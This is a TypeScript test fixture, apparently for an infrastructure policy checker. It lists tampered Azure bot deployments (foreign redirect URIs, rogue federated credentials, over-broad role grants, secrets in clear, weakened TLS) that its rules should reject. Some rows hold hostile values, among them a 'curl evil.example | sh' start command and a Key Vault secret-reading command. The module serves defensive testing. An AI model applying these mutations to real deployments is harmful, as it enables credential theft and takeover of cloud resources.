import { turnState } from "../../../contract/turn-state";
import { tokenStoreProof } from "../../../infra/facts/federated-subject";
import { types } from "../../../infra/policy/types";
import { tenantId } from "../../support/azure-answers";
import type { Recording } from "../../support/recorder";
import { changed, isCalled, type Judged, one, withAnother, without } from "./judge";

/** What somebody in a hurry, or somebody hostile, does to the program of prod; and the rule that stops it. */
export interface Evasion {
  readonly rule: string;
  readonly what: string;
  readonly make: (prod: Recording) => Judged;
}

type Make = Evasion["make"];
type Row = readonly [what: string, make: Make];

const evil = "https://evil.example";
/** What the lifecycle rule is about. */
const forgotten = Object.values(turnState.folders).map((folder) => `turn-state/${folder}`);
const somebody = "99999999-9999-4999-8999-999999999999";

/** Inputs of one of the set-up's own resources changed. */
const set =
  (type: string, inputs: Readonly<Record<string, unknown>>, name?: string): Make =>
  (prod) =>
    changed(prod, { type, inputs, ...(name === undefined ? {} : { name }) });

/** An app setting of another value, or one more. */
const setting =
  (name: string, value: string): Make =>
  (prod) => {
    const { siteConfig } = one(prod.resources, types.webApp).inputs as {
      siteConfig: { appSettings: { name: string }[] };
    };
    const others = siteConfig.appSettings.filter((other) => other.name !== name);
    return set(types.webApp, { "siteConfig.appSettings": [...others, { name, value }] })(prod);
  };

/** What a hostile program can read of the set-up. */
interface Known {
  readonly subscription: string;
  readonly group: string;
  /** ARM id of the group. */
  readonly groupId: string;
  readonly webApp: string;
  readonly vault: string;
  readonly account: string;
  readonly bot: string;
  readonly identity: string;
  /** `/applications/<object id>` of the sign-in app. */
  readonly application: string;
  readonly clientId: string;
  readonly principal: string;
}

function knownOf(prod: Recording): Known {
  const text = (type: string, field: string, name?: string): string =>
    String(one(prod.resources, type, name).inputs[field]);
  const scope = text(types.roleAssignment, "scope", "identity-reads-secrets");
  return {
    subscription: scope.split("/").slice(0, 3).join("/"),
    group: text(types.group, "resourceGroupName"),
    groupId: scope.split("/").slice(0, 5).join("/"),
    webApp: text(types.webApp, "name"),
    vault: text(types.vault, "vaultName"),
    account: text(types.storage, "accountName"),
    bot: text(types.bot, "resourceName"),
    identity: text(types.identity, "resourceName"),
    application: text(types.applicationPassword, "applicationId", "sign-in"),
    clientId: text(types.servicePrincipal, "clientId", "sign-in"),
    principal: text(types.roleAssignment, "principalId", "identity-reads-secrets"),
  };
}

/** One more resource beside the set-up's own. */
const beside =
  (type: string, inputs: (known: Known) => object): Make =>
  (prod) =>
    withAnother(prod, type, "another", inputs(knownOf(prod)));

const ofApplication = (type: string, inputs: object): Row => [
  `azuread's ${type} for the sign-in app`,
  beside(`azuread:index/${type.charAt(0).toLowerCase()}${type.slice(1)}:${type}`, ({ application }) => ({
    applicationId: application,
    ...inputs,
  })),
];
/** A federated credential by which somebody signs people in as the sign-in app. */
const trusts = (whom: string, inputs: object): Row => [
  `a federated credential for ${whom}`,
  ofApplication("ApplicationFederatedIdentityCredential", {
    displayName: "another",
    audiences: ["api://AzureADTokenExchange"],
    ...inputs,
  })[1],
];
const ofWebApp = (type: string, inputs: object = {}): Row => [
  `App Service's ${type} for the bot's web app`,
  beside(`azure-native:web:${type}`, ({ group, webApp }) => ({ resourceGroupName: group, name: webApp, ...inputs })),
];
const inGroup = (type: string, inputs: object = {}): Row => [
  `${type} in the set-up's group`,
  beside(`azure-native:${type}`, ({ group }) => ({ resourceGroupName: group, ...inputs })),
];

const graph = "00000003-0000-0000-c000-000000000000";
/** Bot Service's id of GitHub. */
const gitHub = "d05eaacf-1593-4603-9c6c-d4d8fffa46cb";

/** One more delegated permission on the sign-in app. */
const declares =
  (resourceAppId: string, id: string): Make =>
  (prod) => {
    const { requiredResourceAccesses: accesses } = one(prod.resources, types.application, "sign-in").inputs as {
      requiredResourceAccesses: { resourceAppId: string; resourceAccesses: object[] }[];
    };
    const more = { resourceAppId, resourceAccesses: [{ id, type: "Scope" }] };
    const same = accesses.find((access) => access.resourceAppId === resourceAppId);
    const all = same
      ? accesses.map((access) =>
          access === same
            ? { ...same, resourceAccesses: [...same.resourceAccesses, ...more.resourceAccesses] }
            : access,
        )
      : [...accesses, more];
    return set(types.application, { requiredResourceAccesses: all }, "sign-in")(prod);
  };

const rightsBeside = (what: string, inputs: (known: Known) => object): Row => [
  what,
  beside(types.roleAssignment, (known) => ({
    principalId: somebody,
    principalType: "User",
    roleDefinitionId: roleOf(known, owner),
    ...inputs(known),
  })),
];
const owner = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635";
const secretsUser = "4633458b-17de-408a-b874-0445c86b69e6";
const blobContributor = "ba92f5b4-2d11-453d-a403-e96b0029c9fe";
const roleOf = ({ subscription }: Known, role: string): string =>
  `${subscription}/providers/Microsoft.Authorization/roleDefinitions/${role}`;

const deletion = (name: string, prefixMatch: string[], days: number): object => ({
  name,
  type: "Lifecycle",
  enabled: true,
  definition: {
    filters: { blobTypes: ["blockBlob"], prefixMatch },
    actions: { baseBlob: { delete: { daysAfterModificationGreaterThan: days } } },
  },
});
const lifecycle = (rule: object, sessionDays = 90): Make =>
  set(types.lifecycle, {
    "policy.rules": [
      { ...deletion("forgottenTurns", forgotten, 1), ...rule },
      deletion("endedSessions", ["turn-state/chat-session/"], sessionDays),
    ],
  });

const table: Readonly<Record<string, readonly Row[]>> = {
  "listed-types": [
    ofApplication("ApplicationRedirectUris", { type: "SPA", redirectUris: [`${evil}/`] }),
    [
      "a public client's redirect address as a resource of its own",
      ofApplication("ApplicationRedirectUris", { type: "PublicClient", redirectUris: ["http://localhost"] })[1],
    ],
    ofApplication("ApplicationFlexibleFederatedIdentityCredential", {
      issuer: evil,
      claimsMatchingExpression: "claims['sub'] matches '*'",
    }),
    ofApplication("ApplicationOwner", { ownerObjectId: somebody }),
    ofApplication("ApplicationAppRole", { roleId: somebody, value: "Admin" }),
    ofApplication("ApplicationPermissionScope", { scopeId: somebody, value: "everything" }),
    ofApplication("ApplicationKnownClients", { knownClientIds: [somebody] }),
    ofApplication("ApplicationFallbackPublicClient", { enabled: true }),
    ofApplication("ApplicationOptionalClaims", { accessTokens: [{ name: "groups" }] }),
    ofApplication("ApplicationApiAccess", { apiClientId: "00000003-0000-0000-c000-000000000000", roleIds: [somebody] }),
    [
      "a claims mapping for the sign-in app, by its client id",
      beside("azuread:index/claimsMappingPolicy:ClaimsMappingPolicy", ({ clientId }) => ({
        definitions: [`{"client":"${clientId}"}`],
      })),
    ],
    [
      "the same behind a word that ends with the client id",
      beside("azuread:index/claimsMappingPolicy:ClaimsMappingPolicy", ({ clientId }) => ({
        definitions: [`{"note":"x${clientId}","client":"${clientId}"}`],
      })),
    ],
    [
      "a credential of somebody else's for the bot's identity",
      beside("azure-native:managedidentity:FederatedIdentityCredential", ({ identity }) => ({
        resourceGroupName: "elsewhere",
        resourceName: identity,
        issuer: evil,
        subject: "x",
      })),
    ],
    [
      "an identity of somebody else's machine that is the bot's",
      beside("azure-native:compute:VirtualMachine", ({ groupId, identity }) => ({
        resourceGroupName: "elsewhere",
        identity: {
          userAssignedIdentities: [`${groupId}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/${identity}`],
        },
      })),
    ],
    ofWebApp("WebAppApplicationSettings", { properties: { NODE_OPTIONS: "--inspect=0.0.0.0" } }),
    ofWebApp("WebAppConnectionStrings", { properties: { db: { type: "SQLAzure", value: "Password=x" } } }),
    ofWebApp("WebAppSlot", { slot: "staging" }),
    ofWebApp("WebAppApplicationSettingsSlot", { slot: "staging", properties: {} }),
    ofWebApp("WebAppConnectionStringsSlot", { slot: "staging", properties: {} }),
    ofWebApp("WebAppSlotConfigurationNames", { appSettingNames: [] }),
    ofWebApp("WebAppSourceControl", { repoUrl: `${evil}/code.git` }),
    ofWebApp("WebAppSiteExtension", { siteExtensionId: "shell" }),
    ofWebApp("WebAppHostNameBinding", { hostName: "evil.example" }),
    ofWebApp("WebAppPublicCertificate", { blob: "MII" }),
    ofWebApp("WebAppAuthSettings", { enabled: true, unauthenticatedClientAction: "AllowAnonymous" }),
    ofWebApp("WebAppAuthSettingsV2", { globalValidation: { unauthenticatedClientAction: "AllowAnonymous" } }),
    ofWebApp("WebAppAzureStorageAccounts", {
      properties: { code: { accountName: "evil", mountPath: "/home/site/wwwroot" } },
    }),
    ofWebApp("WebAppMetadata", { properties: { CURRENT_STACK: "php" } }),
    ofWebApp("WebAppDiagnosticLogsConfiguration", { applicationLogs: { azureBlobStorage: { sasUrl: evil } } }),
    ofWebApp("WebAppBackupConfiguration", { storageAccountUrl: evil }),
    ofWebApp("WebAppHybridConnection"),
    ofWebApp("WebAppSwiftVirtualNetworkConnection", { subnetResourceId: "/subscriptions/x/subnet" }),
    ofWebApp("WebAppPremierAddOn"),
    ofWebApp("WebAppSitePushSettings", { isPushEnabled: true }),
    ofWebApp("WebAppDeployment", { deployer: "x" }),
    ofWebApp("WebAppSiteContainer", { image: "evil/image" }),
    inGroup("web:Certificate"),
    inGroup("web:StaticSite"),
    [
      "an access policy of somebody's for the vault",
      beside("azure-native:keyvault:AccessPolicy", ({ vault }) => ({
        resourceGroupName: "elsewhere",
        vaultName: vault,
        policy: { objectId: somebody },
      })),
    ],
    [
      "an access policy by another provider",
      beside("azure:keyvault/accessPolicy:AccessPolicy", ({ groupId, vault }) => ({
        keyVaultId: `${groupId}/providers/Microsoft.KeyVault/vaults/${vault}`,
        objectId: somebody,
      })),
    ],
    inGroup("keyvault:Key"),
    [
      "a copy of the bot's records at somebody's",
      beside("azure-native:storage:ObjectReplicationPolicy", ({ account }) => ({
        resourceGroupName: "elsewhere",
        accountName: account,
        destinationAccount: "evil",
      })),
    ],
    [
      "a local user with a password for the storage",
      beside("azure-native:storage:LocalUser", ({ account }) => ({
        resourceGroupName: "elsewhere",
        accountName: account,
        hasSharedKey: true,
      })),
    ],
    [
      "versions of every blob, which no rule deletes",
      beside("azure-native:storage:BlobServiceProperties", ({ account }) => ({
        accountName: account,
        isVersioningEnabled: true,
      })),
    ],
    [
      "a website of the storage",
      beside("azure-native:storage:StorageAccountStaticWebsite", ({ account }) => ({ accountName: account })),
    ],
    inGroup("storage:FileShare"),
    [
      "events of the storage to somebody",
      beside("azure-native:eventgrid:EventSubscription", ({ groupId, account }) => ({
        scope: `${groupId}/providers/Microsoft.Storage/storageAccounts/${account}`,
        destination: { endpointUrl: evil },
      })),
    ],
    [
      "a script in the cloud, under the deployer's rights",
      inGroup("resources:AzureCliScript", { scriptContent: "az ad app credential reset" })[1],
    ],
    ["a template in the set-up's group", inGroup("resources:Deployment", { properties: { template: {} } })[1]],
    [
      "a template at the subscription",
      beside("azure-native:resources:DeploymentAtSubscriptionScope", () => ({ properties: { template: {} } })),
    ],
    [
      "a command that names the vault",
      beside("command:local:Command", ({ vault }) => ({
        create: `az keyvault secret show --vault-name ${vault} --name bot-app-password`,
      })),
    ],
    [
      "a right in advance at the subscription",
      beside("azure-native:authorization:PimRoleEligibilitySchedule", ({ subscription }) => ({
        scope: subscription,
        principalId: somebody,
      })),
    ],
    [
      "a role of one's own at the subscription",
      beside("azure-native:authorization:RoleDefinition", ({ subscription }) => ({
        scope: subscription,
        permissions: [{ actions: ["*"], dataActions: ["*"] }],
      })),
    ],
    [
      "a way around a policy of the subscription",
      beside("azure-native:authorization:PolicyExemption", ({ subscription }) => ({ scope: subscription })),
    ],
    ["a dynamic resource that names the bot", beside("pulumi-nodejs:dynamic:Resource", ({ bot }) => ({ target: bot }))],
    inGroup("containerinstance:ContainerGroup"),
    [
      "a vault's private line to somebody's network",
      beside("azure-native:keyvault:PrivateEndpointConnection", ({ vault }) => ({ vaultName: vault })),
    ],
    [
      "a list of somebody's that holds the bot's password",
      beside("azure-native:appconfiguration:KeyValue", () => ({
        configStoreName: "public",
        value: "bot-password-value",
      })),
    ],
  ],
  "listed-fields": [
    ["CORS for every page", set(types.webApp, { "siteConfig.cors": { allowedOrigins: ["*"] } })],
    ["remote debugging", set(types.webApp, { "siteConfig.remoteDebuggingEnabled": true })],
    [
      "connection strings",
      set(types.webApp, { "siteConfig.connectionStrings": [{ name: "db", connectionString: "Password=x" }] }),
    ],
    [
      "somebody's share mounted over the code",
      set(types.webApp, {
        "siteConfig.azureStorageAccounts": { code: { accountName: "evil", mountPath: "/home/site/wwwroot" } },
      }),
    ],
    [
      "a virtual directory",
      set(types.webApp, { "siteConfig.virtualApplications": [{ virtualPath: "/", physicalPath: "site" }] }),
    ],
    ["an automatic swap", set(types.webApp, { "siteConfig.autoSwapSlotName": "staging" })],
    ["a push of somebody's", set(types.webApp, { "siteConfig.scmType": "ExternalGit" })],
    ["detailed errors", set(types.webApp, { "siteConfig.detailedErrorLoggingEnabled": true })],
    ["a web server's log", set(types.webApp, { "siteConfig.httpLoggingEnabled": true })],
    ["an image's password", set(types.webApp, { "siteConfig.acrUseManagedIdentityCreds": false })],
    ["a copy of another web app", set(types.webApp, { cloningInfo: { sourceWebAppId: "/subscriptions/x" } })],
    ["another host name", set(types.webApp, { hostNameSslStates: [{ name: "evil.example" }] })],
    ["ends of encryption in front of the app", set(types.webApp, { endToEndEncryptionEnabled: false })],
    [
      "an address that may pass the vault's network rules",
      set(types.vault, { "properties.networkAcls.ipRules": [{ value: "0.0.0.0/0" }] }),
    ],
    ["a vault that is made again out of the bin", set(types.vault, { "properties.createMode": "recover" })],
    ["SFTP", set(types.storage, { isSftpEnabled: true })],
    ["local users of the storage", set(types.storage, { isLocalUserEnabled: true })],
    ["network rules of the storage", set(types.storage, { networkRuleSet: { defaultAction: "Allow" } })],
    ["a domain of somebody's", set(types.storage, { customDomain: { name: "evil.example" } })],
    ["copies to any tenant", set(types.storage, { allowCrossTenantReplication: true })],
    ["a life of signatures", set(types.storage, { sasPolicy: { sasExpirationPeriod: "1000.00:00:00" } })],
    ["Application Insights' key", set(types.bot, { "properties.developerAppInsightsApiKey": "x" })],
    ["somebody's key for the bot's data", set(types.bot, { "properties.cmekKeyVaultUrl": `${evil}/keys/k` })],
    ["somebody's manifest", set(types.bot, { "properties.manifestUrl": evil })],
    ["a call's webhook", set(types.channel, { "properties.properties.callingWebhook": evil })],
    ["app roles", set(types.application, { appRoles: [{ value: "Admin" }] }, "sign-in")],
    ["groups in tokens", set(types.application, { groupMembershipClaims: ["All"] }, "sign-in")],
    ["optional claims", set(types.application, { optionalClaims: { idTokens: [{ name: "groups" }] } }, "sign-in")],
    ["a password inside the application", set(types.application, { password: { displayName: "x" } }, "bot")],
    ["known clients", set(types.application, { "api.knownClientApplications": [somebody] }, "sign-in")],
    ["claims mapped by anyone", set(types.application, { "api.mappedClaimsEnabled": true }, "sign-in")],
    ["a page to be sent to after a sign-out", set(types.application, { "web.logoutUrl": evil }, "sign-in")],
    ["an identifier of another application", set(types.application, { identifierUris: ["api://evil"] }, "sign-in")],
    [
      "a password that begins in the past",
      set(types.applicationPassword, { startDate: "2020-01-01T00:00:00Z" }, "bot"),
    ],
    ["SAML", set(types.servicePrincipal, { preferredSingleSignOnMode: "saml" }, "sign-in")],
    ["a condition of a role", set(types.roleAssignment, { condition: "true" }, "identity-reads-secrets")],
    [
      "rights on behalf of another tenant",
      set(types.roleAssignment, { delegatedManagedIdentityResourceId: "/x" }, "identity-reads-secrets"),
    ],
    ["consent for one person instead of all", set(types.grant, { userObjectId: somebody })],
    ["a workspace that keeps nothing", set(types.workspace, { workspaceCapping: { dailyQuotaGb: 0.001 } })],
    [
      "logs to somebody's storage",
      set(types.diagnosticSetting, { storageAccountId: "/subscriptions/x/evil" }, "logs-vault"),
    ],
    [
      "logs to somebody's event hub",
      set(types.diagnosticSetting, { eventHubAuthorizationRuleId: "/subscriptions/x" }, "logs-host"),
    ],
    ["an isolation of the identity", set(types.identity, { isolationScope: "None" })],
    [
      "a secret that is not valid yet",
      set(types.secret, { "properties.attributes.notBefore": 4_000_000_000 }, "chat-session-key"),
    ],
    [
      "what an identity that the preview does not know yet opens",
      set(types.roleAssignment, { description: "04da6b54-80e4-46f7-96ec-b56ff0331ba9" }, "identity-reads-secrets"),
    ],
  ],
  "listed-values": [
    ["groups of Teams whose people read what is one person's", setting("TEAMS_GROUPS", "everybody")],
    ["a secret of another name in the vault", set(types.secret, { secretName: "everything" }, "chat-session-key")],
    ["a disabled secret", set(types.secret, { "properties.attributes.enabled": false }, "chat-session-key")],
    [
      "Direct Line as a channel, with its default site open",
      set(types.channel, { channelName: "DirectLineChannel", "properties.channelName": "DirectLineChannel" }),
    ],
    ["Alexa", set(types.channel, { channelName: "AlexaChannel", "properties.channelName": "AlexaChannel" })],
    ["mail as a channel", set(types.channel, { "properties.channelName": "EmailChannel" })],
    ["calls", set(types.channel, { "properties.properties.enableCalling": true })],
    ["the default site of Direct Line", set(types.directLineSite, { siteName: "Default Site" })],
    ["another container", set(types.container, { containerName: "everything" })],
    ["affinity of clients, a cookie of its own", set(types.webApp, { clientAffinityEnabled: true })],
    ["HTTP/1.1 only", set(types.webApp, { "siteConfig.http20Enabled": false })],
    ["web sockets", set(types.webApp, { "siteConfig.webSocketsEnabled": true })],
    ["a health check of another page", set(types.webApp, { "siteConfig.healthCheckPath": "/" })],
    ["a Windows container", set(types.webApp, { kind: "app,container,windows" })],
    ["a network that only the provider closes", set(types.webApp, { publicNetworkAccess: "SecuredByPerimeter" })],
    ["streams of the bot", set(types.bot, { "properties.isStreamingSupported": true })],
    ["somebody's key", set(types.bot, { "properties.isCmekEnabled": true })],
    ["another kind of storage", set(types.storage, { kind: "Storage" })],
    [
      "old tokens, whose address tenant policies let pass",
      set(types.application, { "api.requestedAccessTokenVersion": 1 }, "sign-in"),
    ],
    ["a plan of its own machines", set(types.plan, { "sku.name": "I1v2" })],
  ],
  "own-addresses": [
    ["a foreign bot endpoint", set(types.bot, { "properties.endpoint": `${evil}/api/messages` })],
    ["a bot called by http", set(types.bot, { "properties.endpoint": "http://bot.example/api/messages" })],
    [
      "an endpoint whose host only begins like the web app",
      (prod) =>
        set(types.bot, { "properties.endpoint": `https://${knownOf(prod).webApp}.evil.example/api/messages` })(prod),
    ],
    [
      "an endpoint that has the web app's host in its query",
      (prod) =>
        set(types.bot, { "properties.endpoint": `${evil}/api/messages?${knownOf(prod).webApp}.azurewebsites.net` })(
          prod,
        ),
    ],
    [
      "an endpoint that has the web app's host as a user",
      (prod) =>
        set(types.bot, {
          "properties.endpoint": `https://${knownOf(prod).webApp}.azurewebsites.net@evil.example/api/messages`,
        })(prod),
    ],
    [
      "somebody's web app as the endpoint",
      set(types.bot, { "properties.endpoint": "https://evil.azurewebsites.net/api/messages" }),
    ],
    [
      "as the endpoint somebody's web app whose name begins as the set-up's",
      (prod) =>
        set(types.bot, {
          "properties.endpoint": `https://${knownOf(prod).webApp}-evil.azurewebsites.net/api/messages`,
        })(prod),
    ],
    [
      "another route",
      (prod) =>
        set(types.bot, { "properties.endpoint": `https://${knownOf(prod).webApp}.azurewebsites.net/admin` })(prod),
    ],
    ["somebody's Token Service", setting("TOKEN_SERVICE_ENDPOINT", evil)],
    ["somebody's Direct Line", setting("DIRECT_LINE_ENDPOINT", evil)],
    [
      "a secret of somebody's vault",
      setting("DIRECT_LINE_SECRET_URI", "https://evil.vault.azure.net/secrets/direct-line-secret"),
    ],
    ["somebody's storage", setting("STATE_CONTAINER_URL", "https://evil.blob.core.windows.net/turn-state")],
    [
      "a signature of the storage in its address",
      (prod) =>
        setting(
          "STATE_CONTAINER_URL",
          `https://${knownOf(prod).account}.blob.core.windows.net/turn-state?sv=2024&sig=x`,
        )(prod),
    ],
    ["a chat page that every site frames", setting("CHAT_FRAME_ANCESTORS", "*")],
    ["a chat page for nobody knows whom", setting("CHAT_ACCESS", "all")],
    ["a chat page whose sign-in is none", setting("CHAT_ACCESS", "signed-in-to:everyone everyone")],
    ["a chat page for a network that is the internet", setting("CHAT_ALLOWED_NETWORKS", "10.0.0.0/8 0.0.0.0/0")],
    [
      "logs to somebody's workspace",
      set(
        types.diagnosticSetting,
        { workspaceId: "/subscriptions/x/resourceGroups/evil/providers/Microsoft.OperationalInsights/workspaces/w" },
        "logs-vault",
      ),
    ],
    [
      "somebody's machines",
      set(types.webApp, { serverFarmId: "/subscriptions/x/resourceGroups/evil/providers/Microsoft.Web/serverfarms/p" }),
    ],
    ["a secret in somebody's vault", set(types.secret, { vaultName: "evil" }, "chat-session-key")],
    ["a health page of somebody's", set(types.botHealth, { healthUrl: `${evil}/healthz` })],
    ["code for another web app", set(types.deployedCode, { webAppName: "other" })],
    ["a switch of another web app", set(types.scmLogin, { name: "other" })],
  ],
  "own-code": [
    [
      "another start command",
      set(types.webApp, { "siteConfig.appCommandLine": `curl ${evil} | sh; exec node index.js` }),
    ],
    ["no start command", set(types.webApp, { "siteConfig.appCommandLine": undefined })],
    ["an image", set(types.webApp, { "siteConfig.linuxFxVersion": "DOCKER|evil/image:latest" })],
    ["another language", set(types.webApp, { "siteConfig.linuxFxVersion": "PHP|8.3" })],
    ["Node's own switches", setting("NODE_OPTIONS", "--inspect=0.0.0.0:9229")],
    ["TLS that checks nothing", setting("NODE_TLS_REJECT_UNAUTHORIZED", "0")],
    ["code from an address", setting("WEBSITE_RUN_FROM_PACKAGE", `${evil}/code.zip`)],
    ["a build of what was pushed", setting("SCM_DO_BUILD_DURING_DEPLOYMENT", "true")],
    ["an end at once", setting("WEBSITES_CONTAINER_STOP_TIME_LIMIT", "0")],
    ["an image's user", setting("DOCKER_REGISTRY_SERVER_PASSWORD", "s3cret")],
    ["no settings at all", set(types.webApp, { "siteConfig.appSettings": undefined })],
    ["code of another hash", set(types.deployedCode, { hash: "latest" })],
  ],
  "secrets-by-reference": [
    ["a password in clear", setting("MicrosoftAppPassword", "s3cret")],
    ["a session key in clear", setting("CHAT_SESSION_KEY", "s3cret")],
    [
      "a reference to somebody's vault",
      setting(
        "MicrosoftAppPassword",
        `@Microsoft.KeyVault(SecretUri=https://evil.vault.azure.net/secrets/bot-app-password/${"0".repeat(32)})`,
      ),
    ],
    [
      "a reference without a version",
      (prod) =>
        setting(
          "CHAT_SESSION_KEY",
          `@Microsoft.KeyVault(SecretUri=https://${knownOf(prod).vault}.vault.azure.net/secrets/chat-session-key)`,
        )(prod),
    ],
    [
      "a reference by names, which any vault may have",
      setting("CHAT_SESSION_KEY", "@Microsoft.KeyVault(VaultName=evil;SecretName=chat-session-key)"),
    ],
    ["a password in a setting of another name", setting("CHAT_TITLE", "bot-password-value")],
  ],
  "permissions-asked-for": [
    ["consent for everything", set(types.grant, { claimValues: ["openid", "Directory.ReadWrite.All"] })],
    ["a permission of Graph that no connection asks for", declares(graph, "024d486e-b451-40bb-833d-3e66d98c5c73")],
    ["one that Graph has got since", declares(graph, somebody)],
    ["a permission of somebody's API", declares(somebody, somebody)],
  ],
  "connections-known": [
    ["another provider than the bot knows of", set(types.connection, { "properties.serviceProviderId": gitHub })],
    ["a provider under another's name", set(types.connection, { "properties.serviceProviderDisplayName": "GitHub" })],
    ["a connection of which the bot does not know", set(types.connection, { connectionName: "MailConnection" })],
    ["somebody's provider", set(types.connection, { "properties.serviceProviderId": somebody })],
    [
      "a sign-in in every tenant",
      set(types.connection, { "properties.parameters": [{ key: "tenantId", value: "common" }] }),
    ],
    ["another sign-in page", set(types.connection, { "properties.parameters": [{ key: "loginUri", value: evil }] })],
    [
      "an exchange for somebody's tokens",
      set(types.connection, { "properties.parameters": [{ key: "tokenExchangeUrl", value: `api://${somebody}` }] }),
    ],
    ["a check of another connection", set(types.connectionCheck, { connectionName: "other" })],
    ["settings that are no connections", setting("OAUTH_CONNECTIONS", "[]")],
  ],
  "https-and-tls": [
    ["http", set(types.webApp, { httpsOnly: false })],
    ["TLS 1.0", set(types.webApp, { "siteConfig.minTlsVersion": "1.0" })],
    ["no TLS floor for pushes", set(types.webApp, { "siteConfig.scmMinTlsVersion": undefined })],
    ["plain FTP", set(types.webApp, { "siteConfig.ftpsState": "AllAllowed" })],
    ["FTPS", set(types.webApp, { "siteConfig.ftpsState": "FtpsOnly" })],
    ["storage by http", set(types.storage, { enableHttpsTrafficOnly: false })],
    ["storage with TLS 1.0", set(types.storage, { minimumTlsVersion: "TLS1_0" })],
  ],
  "no-basic-auth": [
    ["publishing passwords", set(types.scmLogin, { allow: true })],
    ["FTP passwords", set(types.ftpLogin, { allow: true })],
    ["storage keys", set(types.storage, { allowSharedKeyAccess: undefined })],
    ["anonymous readers of the account", set(types.storage, { allowBlobPublicAccess: true })],
    ["anonymous readers of the container", set(types.container, { publicAccess: "Blob" })],
  ],
  "single-tenant": [
    ["a multi-tenant bot", set(types.bot, { "properties.msaAppType": "MultiTenant" })],
    ["a bot without a tenant", set(types.bot, { "properties.msaAppTenantId": undefined })],
    ["a bot of another tenant", set(types.bot, { "properties.msaAppTenantId": somebody })],
    ["a bot of somebody's application", set(types.bot, { "properties.msaAppId": somebody })],
    ["a web app that is somebody's application", setting("MicrosoftAppId", somebody)],
    ["a web app of another tenant", setting("MicrosoftAppTenantId", somebody)],
    ["a multi-tenant web app", setting("MicrosoftAppType", "MultiTenant")],
    ["an application for every tenant", set(types.application, { signInAudience: "AzureADMultipleOrgs" }, "sign-in")],
    [
      "an application for everybody",
      set(types.application, { signInAudience: "AzureADandPersonalMicrosoftAccount" }, "bot"),
    ],
    ["a vault of another tenant", set(types.vault, { "properties.tenantId": somebody })],
    ["a sign-in through somebody's application", set(types.connection, { "properties.clientId": somebody })],
  ],
  "redirect-addresses": [
    ["a foreign redirect address", set(types.application, { "web.redirectUris": [`${evil}/`] }, "sign-in")],
    [
      "one redirect address more",
      set(
        types.application,
        { "web.redirectUris": ["https://token.botframework.com/.auth/web/redirect", evil] },
        "sign-in",
      ),
    ],
    [
      "a page's redirect address",
      set(types.application, { "singlePageApplication.redirectUris": [`${evil}/`] }, "sign-in"),
    ],
    [
      "a public client's redirect address",
      set(types.application, { "publicClient.redirectUris": ["http://localhost"] }, "sign-in"),
    ],
    [
      "a redirect address whose host only begins like the Token Service's",
      set(
        types.application,
        { "web.redirectUris": ["https://token.botframework.com.evil.example/.auth/web/redirect"] },
        "sign-in",
      ),
    ],
    ["another residency's redirect address", set(types.bot, { location: "westeurope" })],
  ],
  "enhanced-authentication": [
    ["a site that trusts nobody by name", set(types.directLineSite, { trustedOrigins: [] })],
    ["a wildcard", set(types.directLineSite, { trustedOrigins: ["https://*.azurewebsites.net"] })],
    ["a star", set(types.directLineSite, { trustedOrigins: ["*"] })],
    ["a page of somebody's", set(types.directLineSite, { trustedOrigins: [evil] })],
    [
      "one page more",
      (prod) =>
        set(types.directLineSite, {
          trustedOrigins: [...(one(prod.resources, types.directLineSite).inputs["trustedOrigins"] as string[]), evil],
        })(prod),
    ],
    [
      "a page by http",
      (prod) =>
        set(types.directLineSite, { trustedOrigins: [`http://${knownOf(prod).webApp}.azurewebsites.net`] })(prod),
    ],
  ],
  "vault-roles-and-soft-delete": [
    ["access policies instead of roles", set(types.vault, { "properties.enableRbacAuthorization": false })],
    [
      "an access policy",
      set(types.vault, { "properties.accessPolicies": [{ objectId: somebody, permissions: { secrets: ["get"] } }] }),
    ],
    ["no recycle bin", set(types.vault, { "properties.enableSoftDelete": undefined })],
    ["a bin that is emptied after a week", set(types.vault, { "properties.softDeleteRetentionInDays": 7 })],
    ["prod without purge protection", set(types.vault, { "properties.enablePurgeProtection": undefined })],
    ["a vault for templates", set(types.vault, { "properties.enabledForTemplateDeployment": true })],
    ["a vault for machines", set(types.vault, { "properties.enabledForDeployment": true })],
  ],
  "secrets-end": [
    ["a secret without an end", set(types.secret, { "properties.attributes.expires": undefined }, "chat-session-key")],
    [
      "a secret that lives too long",
      set(types.secret, { "properties.attributes.expires": 4_000_000_000 }, "bot-app-password"),
    ],
    ["a password that lives too long", set(types.applicationPassword, { endDate: "2027-05-22T03:04:05Z" }, "bot")],
    ["a password without an end", set(types.applicationPassword, { endDate: undefined }, "sign-in")],
    ["a password whose end is no date", set(types.applicationPassword, { endDate: "never" }, "sign-in")],
    [
      "a second password of the sign-in app that lives for ever",
      beside(types.applicationPassword, ({ application }) => ({
        applicationId: application,
        endDate: "2299-01-01T00:00:00Z",
      })),
    ],
  ],
  "least-rights": [
    ofApplication("ApplicationCertificate", {
      value: "MII",
      type: "AsymmetricX509Cert",
      encoding: "base64",
      startDate: "2026-11-22T03:04:05Z",
      endDate: "2027-01-22T03:04:05Z",
    }),
    trusts("somebody's repository", { issuer: evil, subject: "repo:evil/x" }),
    trusts("the Token Store of another tenant", tokenStoreProof(somebody, somebody)),
    trusts("the Token Store under a tail that can be guessed", tokenStoreProof(tenantId, "bot")),
    trusts("other audiences than Entra's", { ...tokenStoreProof(tenantId, somebody), audiences: ["api://evil"] }),
    rightsBeside("Owner at the subscription", ({ subscription }) => ({ scope: subscription })),
    rightsBeside("Owner at the tenant's root", () => ({ scope: "/" })),
    rightsBeside("Owner at a management group", () => ({
      scope: "/providers/Microsoft.Management/managementGroups/root",
    })),
    rightsBeside("Owner at the group", ({ groupId }) => ({ scope: groupId })),
    rightsBeside("somebody who reads the vault's secrets", (known) => ({
      scope: `${known.groupId}/providers/Microsoft.KeyVault/vaults/${known.vault}`,
      roleDefinitionId: roleOf(known, secretsUser),
    })),
    rightsBeside("the bot's identity as a contributor elsewhere", (known) => ({
      principalId: known.principal,
      scope: `${known.subscription}/resourceGroups/elsewhere`,
    })),
    [
      "the state's role for the whole vault",
      (prod) =>
        set(
          types.roleAssignment,
          { roleDefinitionId: roleOf(knownOf(prod), blobContributor) },
          "identity-reads-secrets",
        )(prod),
    ],
    [
      "the state's role for the whole account",
      (prod) =>
        set(
          types.roleAssignment,
          { scope: `${knownOf(prod).groupId}/providers/Microsoft.Storage/storageAccounts/${knownOf(prod).account}` },
          "identity-writes-state",
        )(prod),
    ],
    [
      "the secrets of every vault in the group",
